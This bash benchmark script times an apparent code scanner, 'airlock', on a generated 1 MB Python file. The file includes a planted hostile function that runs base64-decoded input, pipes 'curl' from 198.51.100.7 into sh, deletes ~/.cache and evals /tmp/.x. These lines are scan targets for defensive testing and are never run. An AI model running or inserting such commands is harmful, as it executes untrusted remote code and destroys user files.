#!/bin/bash
# How long `airlock scan` takes on a large Python file: about 1 MB, a realistic module repeated
# with a few hostile lines mixed in, scanned once per run by hyperfine (the whole process:
# start, read, tokenize, match, print JSON). Goal (scan issue): median under 50 ms.
#
#   bench/scan.sh [AIRLOCK]        knobs: BENCH_RUNS (30), BENCH_WARMUP (3), BENCH_SIZE (1000000)
set -euo pipefail
here=$(cd "$(dirname "${BASH_SOURCE[0]}")" && pwd)
airlock=${1:-$(dirname "$here")/build/src/cli/airlock}
runs=${BENCH_RUNS:-30}
warmup=${BENCH_WARMUP:-3}
size=${BENCH_SIZE:-1000000}
out=$(mktemp -d)
trap 'rm -rf "$out"' EXIT

/usr/bin/python3 - "$out/big.py" "$size" <<'PY'
import sys

MODULE = '''"""Inventory service: load, validate and summarise stock records."""
import csv
import json
import logging
import os
import subprocess
from dataclasses import dataclass, field
from pathlib import Path
from typing import Iterable, Optional

log = logging.getLogger(__name__)
DEFAULT_PATH = Path(os.environ.get("INVENTORY", "inventory.csv"))


@dataclass
class Item:
    sku: str
    name: str
    quantity: int = 0
    price_cents: int = 0
    tags: list = field(default_factory=list)

    @property
    def value(self) -> int:
        return self.quantity * self.price_cents


class InventoryError(Exception):
    pass


def load(path: Path = DEFAULT_PATH) -> list:
    items = []
    with open(path, newline="", encoding="utf-8") as f:
        for n, row in enumerate(csv.DictReader(f), start=2):
            try:
                items.append(Item(row["sku"], row["name"], int(row["qty"]), int(row["price"])))
            except (KeyError, ValueError) as e:
                raise InventoryError(f"{path}:{n}: {e}") from e
    return items


def low_stock(items: Iterable, threshold: int = 5) -> list:
    return sorted((i for i in items if i.quantity < threshold), key=lambda i: i.quantity)


def summary(items: list) -> dict:
    total = sum(i.value for i in items)
    return {"count": len(items), "value_cents": total, "low": [i.sku for i in low_stock(items)]}


def git_revision() -> Optional[str]:
    r = subprocess.run(["git", "rev-parse", "HEAD"], capture_output=True, text=True)
    return r.stdout.strip() if r.returncode == 0 else None


def main(argv: list) -> int:
    items = load(Path(argv[1]) if len(argv) > 1 else DEFAULT_PATH)
    print(json.dumps(summary(items), indent=2))  # a report, not a command: '| sh'
    return 0

'''

HOSTILE = '''
def _update(payload):
    import base64
    exec(base64.b64decode(payload))
    os.system("curl -s http://198.51.100.7/x | sh")
    subprocess.run("rm -rf ~/.cache/*", shell=True)
    eval(compile(open("/tmp/.x").read(), "x", "exec"))
'''

path, size = sys.argv[1], int(sys.argv[2])
parts, n, i = [], 0, 0
while n < size:
    chunk = MODULE.replace("def main(", f"def main_{i}(") + (HOSTILE if i % 16 == 0 else "")
    parts.append(chunk)
    n += len(chunk)
    i += 1
with open(path, "w") as f:
    f.write("".join(parts))
PY

bytes=$(stat -c %s "$out/big.py")
"$airlock" scan --json "$out/big.py" >"$out/report.json" ||
        { echo "scan.sh: airlock scan failed" >&2; exit 1; }
hyperfine -N --warmup "$warmup" --runs "$runs" --export-json "$out/h.json" \
        -n "scan, text" "$airlock scan $out/big.py" \
        -n "scan, --json" "$airlock scan --json $out/big.py" >&2
/usr/bin/python3 - "$out/h.json" "$out/report.json" "$bytes" <<'PY'
import json, statistics, sys
runs = {x["command"]: statistics.median(x["times"]) * 1000 for x in json.load(open(sys.argv[1]))["results"]}
report = json.load(open(sys.argv[2]))
kib = int(sys.argv[3]) / 1024
print(f"Input: {kib:.0f} KiB of Python, {report['summary']['findings']} findings"
      f"{' (truncated)' if report['files'][0]['truncated'] else ''}.\n")
print("| run | median ms |\n|---|---:|")
for name, ms in runs.items():
    print(f"| `airlock {name}` | {ms:.1f} |")
worst = max(runs.values())
print(f"\nGoal: under 50 ms: {'met' if worst < 50 else 'NOT met'} ({worst:.1f} ms).")
PY
